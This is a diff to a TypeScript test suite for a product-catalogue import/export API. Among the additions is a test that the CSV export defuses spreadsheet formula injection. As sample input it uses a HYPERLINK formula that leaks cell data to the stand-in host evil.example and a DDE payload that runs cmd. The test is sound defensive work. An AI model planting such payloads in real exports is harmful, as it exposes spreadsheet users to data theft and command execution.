@@ -12,7 +12,8 @@ import {
   importSummarySchema,
   type ImportBadRow,
 } from '../../src/api/schemas/catalog-import.ts';
-import { IMPORT_MESSAGES, skuSeenAt } from '../../src/lib/catalog-import.ts';
+import { parse as parseCsv } from 'csv-parse/sync';
+import { IMPORT_MESSAGES, skuSeenAt, variationSkuSeenAt } from '../../src/lib/catalog-import.ts';
 import { productTag } from '../../src/lib/page-tags.ts';
 import { PRODUCT_MESSAGES } from '../../src/lib/product-admin.ts';
 import { catalogChangesFor } from '../../src/server/catalog-changes.ts';
@@ -234,6 +235,35 @@ describe('importing a file', () => {
     expect(await bySku(['JSON-1'])).toEqual([]);
   });
 
+  it('refuses a variation SKU that another product of the file already gave, naming its line', async () => {
+    const [first, second] = [0, 1].map((n) => ({
+      ...JSON.parse(EXAMPLE_JSON)[0],
+      sku: `TWIN-${n}`,
+    }));
+    // The second product's first variation takes the first product's second variation's SKU.
+    const taken = first.variations[1].sku;
+    const file = [
+      {
+        ...first,
+        variations: first.variations.map((v: object, i: number) => ({ ...v, sku: `TWIN-0-${i}` })),
+      },
+      {
+        ...second,
+        variations: second.variations.map((v: object, i: number) => ({
+          ...v,
+          sku: i === 0 ? 'TWIN-0-1' : `TWIN-1-${i}`,
+        })),
+      },
+    ];
+    expect(taken).toBeTruthy();
+    const res = await importFile(editor.client, JSON.stringify(file), 'json');
+    expect(res.status).toBe(422);
+    expect(importRejectionSchema.parse(res.body).rows).toEqual([
+      { line: 2, field: 'variations.0.sku', message: variationSkuSeenAt(1) },
+    ]);
+    expect(await bySku(['TWIN-0', 'TWIN-1'])).toEqual([]);
+  });
+
   it('refuses what is not a catalogue file', async () => {
     const plain = await editor.client.request('POST', '/api/admin/catalog/import', {
       raw: 'sku\n',
@@ -296,8 +326,8 @@ describe('importing a file', () => {
       .trim()
       .split('\n')
       .map((line) => importLineSchema.parse(JSON.parse(line)));
-    expect(lines[0]).toEqual({ progress: { done: 0, total: 3 } });
-    expect(lines.at(-2)).toEqual({ progress: { done: 3, total: 3 } });
+    expect(lines[0]).toEqual({ progress: { phase: 'check', done: 0, total: 3 } });
+    expect(lines.at(-2)).toEqual({ progress: { phase: 'check', done: 3, total: 3 } });
     expect(lines.at(-1)).toMatchObject({ summary: { dryRun: true, unchanged: 3 } });
   });
 });
@@ -325,6 +355,60 @@ describe('exporting the catalogue', () => {
   });
 });
 
+describe('formulas in the CSV export', () => {
+  const HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A2,"Click me")';
+  /** A column a number is written in: a minus there is a number's (`-5`), not a formula. */
+  const NUMBER_COLUMN =
+    /^(?:price|salePrice|stock|variation\.(?:price|salePrice|stock)|fields\.(?:Weight|Screen Size|Battery|Camera|RAM|Storage|Refresh Rate))$/;
+
+  it('are written as text a spreadsheet shows and does not run, and import back as they were', async () => {
+    const product = {
+      ...JSON.parse(EXAMPLE_JSON)[2],
+      sku: 'FORMULA-1',
+      name: HYPERLINK,
+      brand: '+Anker',
+      shortDescription: '@SUM(A1:A9)',
+      description: '\t=1+1\r\n-2',
+      criteria: ['-Budget', "'=quoted"],
+      fields: { Type: "=cmd|' /C calc'!A0", Connectivity: '+84 912 345 678', Weight: -5 },
+    };
+    const res = await importFile(editor.client, JSON.stringify([product]), 'json');
+    expect(res.status, JSON.stringify(res.body)).toBe(200);
+
+    const csv = await exportText(editor.client, 'csv');
+    const [header, ...rows] = parseCsv(csv.replace(/^\uFEFF/, ''), {
+      relax_column_count: true,
+    }) as string[][];
+    const live = rows.flatMap((cells) =>
+      cells
+        .map((cell, i) => [header![i]!, cell] as const)
+        .filter(
+          ([column, cell]) =>
+            /^[=+\-@\t\r]/.test(cell) &&
+            !(NUMBER_COLUMN.test(column) && String(Number(cell)) === cell),
+        ),
+    );
+    expect(live).toEqual([]);
+    const mine = rows.find((cells) => cells[0] === 'FORMULA-1')!;
+    const cell = (column: string) => mine[header!.indexOf(column)];
+    expect(cell('name')).toBe(`'${HYPERLINK}`);
+    expect(cell('criteria')).toBe("'-Budget|'=quoted");
+    expect(cell('fields.Weight')).toBe('-5');
+
+    const again = await importFile(editor.client, csv, 'csv');
+    expect(importSummarySchema.parse(again.body)).toMatchObject({ created: 0, updated: 0 });
+    const [stored] = await bySku(['FORMULA-1']);
+    expect(stored).toMatchObject({
+      name: HYPERLINK,
+      brand: '+Anker',
+      description: '\t=1+1\r\n-2',
+      criteria: ['-Budget', "'=quoted"],
+      fields: { Type: "=cmd|' /C calc'!A0", Connectivity: '+84 912 345 678', Weight: -5 },
+      version: 1,
+    });
+  });
+});
+
 describe('npm run catalog', () => {
   const run = async (...argv: string[]) => {
     const io = { out: '', err: '' };
@@ -347,8 +431,8 @@ describe('npm run catalog', () => {
     const imported = await run('import', file);
     expect(imported.code).toBe(0);
     expect(imported.out).toMatch(/; 0 created, 0 updated, \d+ unchanged\.\n$/);
-    expect(imported.err).toMatch(/^Importing: 0% \(0 of \d+ products\)\n/);
-    expect(imported.err).toMatch(/Importing: 100% /);
+    expect(imported.err).toMatch(/^Checking: 0% \(0 of \d+ products\)\n/);
+    expect(imported.err).toMatch(/\nChecking: 100% [^]*\nImporting: 0% [^]*\nImporting: 100% /);
     const [last] = await db().select().from(auditLog).orderBy(desc(auditLog.id)).limit(1);
     expect(last).toMatchObject({ actor: 'cli', action: 'catalog.import' });
   });
